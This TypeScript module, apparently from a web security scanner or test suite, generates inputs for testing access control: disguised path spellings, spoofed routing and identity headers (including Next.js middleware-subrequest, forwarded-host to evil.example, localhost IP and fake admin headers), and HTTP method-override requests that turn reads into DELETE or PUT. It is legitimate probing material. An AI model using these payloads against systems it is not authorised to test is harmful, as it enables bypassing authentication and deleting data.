import type { HttpRequest } from "./http-client";

/** Alternative spellings of a path that a careless server treats as the same path, or as one that it does not guard. */
export function pathVariants(address: string): string[] {
  const [path = "", query] = address.split("?");
  const [, first = "", ...rest] = path.split("/");
  const end = query ? `?${query}` : "";
  const under = (start: string) => [start, ...rest].join("/");
  const encodedFirst = `%${first.charCodeAt(0).toString(16)}`;
  return [
    `${path}/`,
    `${path}//`,
    `/${path}`,
    `//${path}`,
    under(`/./${first}`),
    under(`/nowhere/../${first}`),
    under(`/nowhere/%2e%2e/${first}`),
    under(`/${encodedFirst}${first.slice(1)}`),
    under(`/%25${encodedFirst.slice(1)}${first.slice(1)}`),
    under(`/${first.toUpperCase()}`),
    `${path}/.`,
    `${path}%2f`,
    `${path}%00`,
    `${path};a=b`,
    `${path}.rsc`,
    `${path}.json`,
    `${path}.txt`,
    `${path}/index`,
    `${path}.segments/_tree.segment.rsc`,
    `/index${path}`,
    `/en${path}`,
    `/\\${path.slice(1)}`,
    path.replaceAll("/", "%2f").replace("%2f", "/"),
    `/_next/data/build${path}.json`,
    `/_next/server/app${path}.rsc`,
    `http://evil.example${path}`,
  ].map((disguise) => disguise + end);
}

/** Headers that some servers and proxies have trusted when they should not. */
export const SPOOFED_HEADERS: readonly Record<string, string>[] = [
  ...["proxy", "src/proxy", "middleware", "src/middleware", "pages/_middleware"].map((name) => ({
    "x-middleware-subrequest": Array(5).fill(name).join(":"),
  })),
  { "x-middleware-subrequest-id": "0".repeat(16) },
  { "x-middleware-next": "1" },
  { "x-middleware-rewrite": "/" },
  { "x-middleware-override-headers": "cookie", "x-middleware-request-cookie": "" },
  { "x-middleware-prefetch": "1" },
  { "x-middleware-skip": "1" },
  { "x-invoke-path": "/", "x-invoke-status": "200", "x-invoke-output": "/" },
  { "x-matched-path": "/" },
  { "x-now-route-matches": "1=admin" },
  { "x-nextjs-data": "1" },
  { "x-nextjs-rewritten-path": "/" },
  { "x-next-revalidated-tags": "guides" },
  { "x-prerender-revalidate": "1" },
  { "next-url": "/admin" },
  { "next-resume": "1" },
  { "next-action": "0".repeat(40) },
  { "x-original-url": "/", "x-rewrite-url": "/" },
  { "x-forwarded-host": "evil.example", "x-forwarded-proto": "https", "x-forwarded-port": "443" },
  { forwarded: "host=evil.example;proto=https" },
  { "x-forwarded-for": "127.0.0.1", "x-real-ip": "127.0.0.1" },
  { "x-kumquat-socket-address": "127.0.0.1", "x-user": "admin", "x-is-admin": "true" },
  { host: "evil.example" },
  { "x-http-method-override": "DELETE", "x-method-override": "DELETE", "x-http-method": "DELETE" },
];

/** Ways to smuggle a write into a request that looks like a read, or like another write. */
export function methodOverrides(address: string): Pick<HttpRequest, "method" | "path" | "headers">[] {
  const override = {
    "x-http-method-override": "DELETE",
    "x-method-override": "PUT",
    "content-type": "application/json",
  };
  const withQuery = `${address}${address.includes("?") ? "&" : "?"}_method=DELETE`;
  return [
    { method: "GET", path: withQuery, headers: override },
    { method: "POST", path: withQuery, headers: override },
    { method: "OPTIONS", path: address, headers: { "access-control-request-method": "DELETE" } },
    { method: "PATCH", path: address, headers: override },
    { method: "PROPFIND", path: address },
    { method: "QUERY", path: address, headers: override },
  ];
}
